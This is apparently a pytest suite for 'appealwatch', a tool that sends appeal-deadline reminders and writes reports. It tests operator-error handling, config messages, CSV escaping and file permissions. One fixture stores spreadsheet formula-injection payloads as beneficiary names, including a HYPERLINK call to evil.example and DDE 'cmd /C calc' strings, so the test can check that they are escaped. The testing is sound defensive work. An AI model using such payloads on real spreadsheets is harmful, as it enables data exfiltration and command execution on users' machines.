"""Operator mistakes the command line catches before anything is sent or recorded, clear configuration and
usage messages, and the report files as supervisors and spreadsheets get them (issue 7: points 2, 7, 11, 13
and privacy at rest), all through the real console script."""

from __future__ import annotations

import csv
import email
import email.policy
import json
import os
import stat
import subprocess
import sys
from datetime import date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import Engine, func, select

from jobs.report import csv_cell
from jobs.store import messages, reminders, runs

import builders as b
from conftest import Database
from smtp_server import SmtpTestServer

SCRIPT = str(Path(sys.executable).parent / "appealwatch")
ON = date(2025, 3, 18)


def appealwatch(
    *args: str, cwd: Path, env: dict[str, str] | None = None, umask: int = -1
) -> subprocess.CompletedProcess[str]:
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("APPEALWATCH_")}
    full_env.update(env or {})
    return subprocess.run(
        [SCRIPT, *args], cwd=cwd, env=full_env, capture_output=True, text=True, timeout=300, umask=umask
    )


def brussels_today() -> date:
    return datetime.now(ZoneInfo("Europe/Brussels")).date()


def counts(engine: Engine) -> tuple[int, int, int]:
    with engine.connect() as conn:
        return tuple(  # type: ignore[return-value]
            conn.execute(select(func.count()).select_from(table)).scalar_one()
            for table in (messages, reminders, runs)
        )


def write_config(tmp_path: Path, url: str, body: str = "") -> Path:
    path = tmp_path / "config.toml"
    path.write_text(f'[database]\nurl = "{url}"\n{body}', encoding="utf-8")
    return path


# --- 2. `--on` later than today does not send real mail --------------------------------------------------


def test_a_run_on_a_future_day_through_smtp_sends_and_records_nothing(
    database: Database, tmp_path: Path
) -> None:
    """A mistyped `run --on 2027-02-18` mailed "tomorrow is the last day" three months early and used up the
    earlier stages: through SMTP, a day after today is refused unless --dry-run."""
    with database.engine.begin() as conn:
        b.beneficiary(conn, 1, "Els Maes", "els@mail.example")
        b.decision(conn, 1, 1, "care_allowance", brussels_today() - timedelta(days=5))
    with SmtpTestServer() as server:
        config = write_config(
            tmp_path,
            database.url,
            f'[notifier]\nkind = "smtp"\n[smtp]\nhost = "127.0.0.1"\nport = {server.port}\n'
            'timeout = 10.0\nbackoff_seconds = 0.0\n[report]\nout_dir = "reports"\n',
        )
        shown = appealwatch("windows", "--format", "json", "--config", str(config), cwd=tmp_path)
        [window] = json.loads(shown.stdout)
        future = date.fromisoformat(window["safe_deadline"]) - timedelta(days=1)  # "tomorrow is the last day"
        assert future > brussels_today()

        for command in (["run"], ["deliver"]):
            done = appealwatch(*command, "--on", future.isoformat(), "--config", str(config), cwd=tmp_path)
            assert done.returncode == 2, done.stderr
            [line] = done.stderr.splitlines()
            assert f"--on {future} is after today" in line and "nothing was sent or recorded" in line
            assert "--dry-run" in line
        assert server.messages == []
        assert counts(database.engine) == (0, 0, 0)  # no message, no stage used up, no run
        assert not (tmp_path / "reports").exists()

        rehearsal = appealwatch(
            "run", "--dry-run", "--on", future.isoformat(), "--config", str(config), cwd=tmp_path
        )
        assert rehearsal.returncode == 0, rehearsal.stderr
        assert "would send" in rehearsal.stdout
        assert counts(database.engine) == (0, 0, 0)

        # The catch-up of a missed night stays allowed.
        yesterday = (brussels_today() - timedelta(days=1)).isoformat()
        catch_up = appealwatch("run", "--on", yesterday, "--config", str(config), cwd=tmp_path)
        assert catch_up.returncode == 0, catch_up.stderr
        assert counts(database.engine)[2] == 1


def test_the_file_notifier_runs_on_any_day(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'aw.db'}"
    config = write_config(tmp_path, url, '[notifier]\nkind = "file"\n')
    assert appealwatch("init-db", "--config", str(config), cwd=tmp_path).returncode == 0
    future = (brussels_today() + timedelta(days=90)).isoformat()
    done = appealwatch("run", "--on", future, "--config", str(config), cwd=tmp_path)
    assert done.returncode == 0, done.stderr


# --- 7. an unwritable report folder stops the night at start ----------------------------------------------


def test_a_report_folder_that_cannot_be_written_stops_the_run_before_anything_is_sent(
    database: Database, tmp_path: Path
) -> None:
    (tmp_path / "taken").write_text("a file where the report folder should be", encoding="utf-8")
    with database.engine.begin() as conn:
        b.beneficiary(conn, 1, "Els Maes", "els@mail.example")
        b.decision(conn, 1, 1, "care_allowance", date(2024, 12, 20))  # stage 2 due on ON
    config = write_config(
        tmp_path, database.url, '[notifier]\noutbox_dir = "outbox"\n[report]\nout_dir = "taken/reports"\n'
    )
    done = appealwatch("run", "--on", ON.isoformat(), "--config", str(config), cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    [line] = done.stderr.splitlines()
    assert line.startswith("appealwatch: [report] out_dir: cannot write the report in ")
    assert str(tmp_path / "taken" / "reports" / ON.isoformat()) in line
    assert "nothing was sent or recorded" in line
    assert counts(database.engine) == (0, 0, 0)
    assert not (tmp_path / "outbox").exists()


def test_schedule_with_a_report_folder_that_cannot_be_written_does_not_start(tmp_path: Path) -> None:
    (tmp_path / "taken").write_text("a file where the report folder should be", encoding="utf-8")
    config = write_config(tmp_path, f"sqlite:///{tmp_path / 'aw.db'}", '[report]\nout_dir = "taken"\n')
    done = appealwatch("schedule", "--config", str(config), cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    [line] = done.stderr.splitlines()
    assert line.startswith(f"appealwatch: [report] out_dir: cannot write the report in {tmp_path / 'taken'}")


def test_report_out_pointing_at_a_file_exits_2_in_one_line(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'aw.db'}"
    assert appealwatch("init-db", cwd=tmp_path, env={"APPEALWATCH_DATABASE_URL": url}).returncode == 0
    (tmp_path / "report.html").write_text("not a folder", encoding="utf-8")
    done = appealwatch(
        "report", "--on", ON.isoformat(), "--out", "report.html", cwd=tmp_path,
        env={"APPEALWATCH_DATABASE_URL": url},
    )  # fmt: skip
    assert done.returncode == 2, done.stderr
    [line] = done.stderr.splitlines()
    assert line.startswith(f"appealwatch: --out: cannot write the report in {tmp_path / 'report.html'}")
    assert f"{tmp_path / 'report.html'} is a file, not a folder" in line and "File exists" not in line


# --- 11. configuration and usage wording ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("day", "says"),
    [("2026-02-30", "2026-02-30 does not exist: February 2026 has 28 days"),
     ("2024-02-30", "2024-02-30 does not exist: February 2024 has 29 days"),
     ("2026-13-01", "2026-13-01 does not exist: there is no month 13"),
     ("2026-04-31", "2026-04-31 does not exist: April 2026 has 30 days"),
     ("30/02/2026", "'30/02/2026' is not a day written YYYY-MM-DD")],
)  # fmt: skip
def test_a_day_that_is_not_in_the_calendar_is_named_so(day: str, says: str, tmp_path: Path) -> None:
    done = appealwatch("windows", "--on", day, cwd=tmp_path)
    assert done.returncode == 2
    assert says in done.stderr
    assert "does not match the format" not in done.stderr


@pytest.mark.parametrize(
    ("body", "says"),
    [('[smtp]\npassword = "hunter2"\n',
      "smtp.password: unknown key: the password never lives in the file; put it in an environment variable and "
      "name that variable in smtp.password_env"),
     ("[reminders]\nbeneficiary_days = []\n", "reminders.beneficiary_days: empty: families would never be reminded"),
     ("[reminders]\nadvisor_days = []\n", "reminders.advisor_days: empty: advisors would never be reminded"),
     ("[smtp]\nprot = 25\n", "smtp.prot: unknown key (did you mean smtp.port?)")],
)  # fmt: skip
def test_a_configuration_mistake_gets_a_message_naming_the_key(body: str, says: str, tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text(body, encoding="utf-8")
    done = appealwatch("windows", cwd=tmp_path)
    assert done.returncode == 2
    assert f"appealwatch: configuration error: config.toml: {says}" in done.stderr
    assert "hunter2" not in done.stderr


@pytest.mark.parametrize("how", ["--config", "$APPEALWATCH_CONFIG"])
@pytest.mark.parametrize("command", ["windows", "demo", "runs"])
@pytest.mark.parametrize("what", ["missing.toml", "a-folder"])
def test_a_configuration_file_named_explicitly_must_be_there(
    how: str, command: str, what: str, tmp_path: Path
) -> None:
    (tmp_path / "a-folder").mkdir()
    args, env = (
        ([command, "--config", what], {}) if how == "--config" else ([command], {"APPEALWATCH_CONFIG": what})
    )
    if what == "a-folder" and how == "--config":
        done = appealwatch(*args, cwd=tmp_path, env=env)
        assert done.returncode == 2  # click refuses a folder for --config itself
        return
    done = (
        appealwatch(*args, "--dir", "demo", cwd=tmp_path, env=env)
        if command == "demo"
        else appealwatch(*args, cwd=tmp_path, env=env)
    )
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stderr.startswith(f"appealwatch: configuration error: {what}: ")
    assert "Traceback" not in done.stderr
    assert not (tmp_path / "demo").exists()


def test_only_the_implicit_config_toml_may_be_absent(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'aw.db'}"
    assert appealwatch("init-db", cwd=tmp_path, env={"APPEALWATCH_DATABASE_URL": url}).returncode == 0


# --- 13. the report mail, the CSV files, `windows` with bad rows -------------------------------------------


def night_with_hostile_names(database: Database, tmp_path: Path) -> Path:
    with database.engine.begin() as conn:
        # No e-mail address: listed by name in unreachable.csv for a letter or a call.
        b.beneficiary(conn, 1, '=HYPERLINK("http://evil.example/?"&A1,"Click")', None)
        b.beneficiary(conn, 2, "@SUM(1+1)*cmd|' /C calc'!A0", None)
        b.beneficiary(conn, 3, "-2+3+cmd|' /C calc'!A0", None)
        b.beneficiary(conn, 4, "+32 9 123 45 67", None)
        for i in range(1, 5):
            b.decision(conn, i, i, "care_allowance", date(2024, 12, 20))  # safe 2025-03-20: stage 2 due on ON
        # payment informed Sun 2024-12-15: safe 2025-03-17, latest 03-18: in grace on ON, days_left -1
        b.decision(conn, 5, 1, "payment", date(2024, 12, 15), decided_on=date(2024, 12, 13))
    return write_config(
        tmp_path,
        database.url,
        '[notifier]\noutbox_dir = "outbox"\n[report]\nout_dir = "reports"\n'
        'recipients = ["supervisor@infino.example"]\nlanguage = "en"\n',
    )


def test_report_csv_cells_cannot_start_a_spreadsheet_formula(database: Database, tmp_path: Path) -> None:
    night_with_hostile_names(database, tmp_path)
    done = appealwatch("run", "--on", ON.isoformat(), "--config", "config.toml", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    root = tmp_path / "reports" / ON.isoformat()
    with open(root / "unreachable.csv", encoding="utf-8", newline="") as handle:
        names = sorted(r["name"] for r in csv.DictReader(handle))
    assert names == sorted(
        ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(1+1)*cmd|' /C calc'!A0",
         "'-2+3+cmd|' /C calc'!A0", "'+32 9 123 45 67"]
    )  # fmt: skip
    with open(root / "grace.csv", encoding="utf-8", newline="") as handle:
        [grace] = list(csv.DictReader(handle))
    assert grace["days_left"] == "-1"  # a number stays a number
    for name in ("windows.csv", "grace.csv", "unreachable.csv", "problems.csv", "deliveries.csv"):
        with open(root / name, encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@")), (name, cell)
                    assert not cell.startswith("-") or cell.lstrip("-").isdigit(), (name, cell)


def test_windows_csv_keeps_negative_days_left_a_number(database: Database, tmp_path: Path) -> None:
    config = night_with_hostile_names(database, tmp_path)
    done = appealwatch(
        "windows", "--all", "--format", "csv", "--on", ON.isoformat(), "--config", str(config), cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    rows = {r["decision_id"]: r for r in csv.DictReader(done.stdout.splitlines())}
    assert rows["5"]["status"] == "grace" and rows["5"]["days_left"] == "-1"


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
     ("\r=1", "'\r=1"), ("Els Maes", "Els Maes"), ("a=b", "a=b"), ("2025-03-18", "2025-03-18"),
     (-1, -1), (-3.5, -3.5), ("-3", "-3"), ("+32", "+32"), (0, 0), (None, ""), (True, True)],
)  # fmt: skip
def test_a_csv_cell_is_data_never_a_formula(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_the_report_mail_names_the_report_folder_by_its_absolute_path(
    database: Database, tmp_path: Path
) -> None:
    night_with_hostile_names(database, tmp_path)
    done = appealwatch("run", "--on", ON.isoformat(), "--config", "config.toml", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    [report] = [
        m
        for m in (email.message_from_bytes(p.read_bytes(), policy=email.policy.default)
                  for p in (tmp_path / "outbox").glob("*.eml"))
        if m["X-Appealwatch-Kind"] == "report"
    ]  # fmt: skip
    text = report.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    assert f"are in {tmp_path.resolve() / 'reports' / ON.isoformat()}." in text
    assert f"report: {tmp_path.resolve() / 'reports' / ON.isoformat() / 'report.html'}" in done.stdout


def test_windows_exits_0_when_it_printed_the_windows_despite_bad_rows(
    database: Database, tmp_path: Path
) -> None:
    with database.engine.begin() as conn:
        b.beneficiary(conn, 1, "Els Maes", "els@mail.example")
        b.decision(conn, 1, 1, "care_allowance", date(2024, 12, 20))
        b.decision(conn, 2, 1, "family_bonus", date(2025, 1, 2))  # unknown kind: a bad row
    config = write_config(tmp_path, database.url)
    done = appealwatch(
        "windows", "--on", ON.isoformat(), "--format", "csv", "--config", str(config), cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    assert [r["decision_id"] for r in csv.DictReader(done.stdout.splitlines())] == ["1"]
    assert "bad row: decisions row 2" in done.stderr and "family_bonus" not in done.stdout


# --- privacy at rest ---------------------------------------------------------------------------------------


def modes(root: Path) -> dict[str, int]:
    return {str(p.relative_to(root)): stat.S_IMODE(p.stat().st_mode) for p in [root, *root.rglob("*")]}


@pytest.mark.parametrize("umask", [0o000, 0o022, 0o277])
def test_outbox_and_report_are_readable_by_their_owner_only_whatever_the_umask(
    umask: int, tmp_path: Path
) -> None:
    done = appealwatch("demo", "--dir", "demo", "--on", ON.isoformat(), cwd=tmp_path, umask=umask)
    assert done.returncode == 0, done.stderr
    for folder in ("outbox", "reports"):
        found = modes(tmp_path / "demo" / folder)
        assert len(found) > 3, found
        wrong = {
            name: oct(mode)
            for name, mode in found.items()
            if mode != (0o700 if (tmp_path / "demo" / folder / name).is_dir() else 0o600)
        }
        assert wrong == {}


def test_the_start_checks_of_schedule_start_no_thread_that_could_take_sigterm() -> None:
    """`schedule` blocks SIGTERM before its threads start; a native thread born earlier (pandas' numerics, if
    the report folder check imported them) would take the signal and kill the process mid-send."""
    script = (
        "import os, sys\n"
        "import jobs.commands, jobs.folders, jobs.schedule\n"
        "print(len(os.listdir('/proc/self/task')), 'pandas' in sys.modules)\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert done.stdout.split() == ["1", "False"], done.stderr
